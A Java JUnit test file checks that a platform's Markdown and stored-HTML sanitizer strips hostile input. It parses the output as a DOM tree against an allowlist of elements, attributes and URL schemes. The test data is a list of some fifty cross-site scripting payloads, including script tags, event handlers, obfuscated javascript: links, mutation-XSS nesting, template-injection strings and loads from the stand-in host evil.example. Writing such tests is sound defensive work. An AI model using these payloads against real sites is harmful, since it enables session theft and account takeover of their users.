package cat.xarxa.platform.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Element;
import org.w3c.dom.NamedNodeMap;
import org.w3c.dom.Node;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;

/** What hostile Markdown and hostile stored HTML become: looked at as a tree, as a browser does, not as a string. */
class StoredXssTests {

    private static final Set<String> ELEMENTS = Set.of(
            "body",
            "p",
            "br",
            "hr",
            "strong",
            "em",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "a");
    private static final Set<String> ATTRIBUTES = Set.of("href", "title", "start", "align", "rel");

    static Stream<String> attacks() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example></sCrIpT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<img src=x onerror=alert(1)>",
                "<p onclick=\"alert(1)\" onmouseover=alert(1)>x</p>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<form action=https://evil.example><input name=q><button>x</button></form>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"java&#10;script:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"&#x6A&#x61&#x76&#x61script:alert(1)\">x</a>",
                "<a href=\"&#1;javascript:alert(1)\">x</a> &#1; &#0; &#xFFFE;",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "[x](javascript:alert(1))",
                "[x](JAVASCRIPT:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](java%0ascript:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "[x](data:text/html,<script>alert(1)</script>)",
                "[x](vbscript:msgbox(1))",
                "[x](https://example.org \"onmouseover=alert(1) \\\" autofocus onfocus=alert(1)\")",
                "![x](javascript:alert(1))",
                "![x](data:text/html,<script>alert(1)</script>)",
                "![x\\\" onerror=alert(1)](https://example.org/x.png)",
                "<javascript:alert(1)>",
                "[x]: javascript:alert(1)\n\n[x]",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<style><img src=\"</style><img src=x onerror=alert(1)>\"></style>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<select><template shadowrootmode=open><script>alert(1)</script></template></select>",
                "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
                "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
                "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<p style=\"background-image:url(https://evil.example/x)\">x</p>",
                "<a id=\"location\" name=\"cookie\">x</a>",
                "<p id=\"body\" class=\"admin\">x</p>",
                "<template><script>alert(1)</script></template>",
                "{{constructor.constructor('alert(1)')()}}",
                "${7*7} #{T(java.lang.Runtime)} [[${1}]] __${1}__",
                "<xss onpointerrawupdate=alert(1)>x",
                "`<script>alert(1)</script>`",
                "```html\n<script>alert(1)</script>\n```",
                "|a|b|\n|-|-|\n|<script>alert(1)</script>|[x](javascript:alert(1))|");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void leavesOnlyHarmlessElementsOfHostileMarkdown(String attack) throws Exception {
        assertHarmless(Text.of("T", "R", attack).html());
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void leavesOnlyHarmlessElementsOfHostileStoredHtml(String attack) throws Exception {
        assertHarmless(new Text("t", "T", "R", "C", attack).html());
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void changesNothingInWhatIsSafeAlready(String attack) {
        String once = Text.of("T", "R", attack).html();

        assertThat(SafeHtml.of(once)).isEqualTo(once);
    }

    private static void assertHarmless(String html) throws Exception {
        Element body = DocumentBuilderFactory.newInstance()
                .newDocumentBuilder()
                .parse(new InputSource(new java.io.StringReader("<body>" + html + "</body>")))
                .getDocumentElement();
        Set<String> strange = new TreeSet<>();
        collect(body, strange);
        assertThat(strange).isEmpty();
    }

    private static void collect(Element element, Set<String> strange) {
        if (!ELEMENTS.contains(element.getTagName())) {
            strange.add("<" + element.getTagName() + ">");
        }
        NamedNodeMap attributes = element.getAttributes();
        for (int i = 0; i < attributes.getLength(); i++) {
            String name = attributes.item(i).getNodeName();
            if (!ATTRIBUTES.contains(name)) {
                strange.add(name);
            }
            if (name.equals("href") && !isHarmlessAddress(attributes.item(i).getNodeValue())) {
                strange.add(attributes.item(i).getNodeValue());
            }
        }
        NodeList children = element.getChildNodes();
        for (int i = 0; i < children.getLength(); i++) {
            Node child = children.item(i);
            if (child instanceof Element inner) {
                collect(inner, strange);
            }
        }
    }

    /** As a browser reads a scheme: blanks and controls do not count, nor does case. */
    private static boolean isHarmlessAddress(String address) {
        String plain = address.replaceAll("[\\p{Cntrl}\\s]", "").toLowerCase(Locale.ROOT);
        return plain.matches("(https?:|mailto:).*") || !plain.matches("[^/?#]*:.*");
    }
}
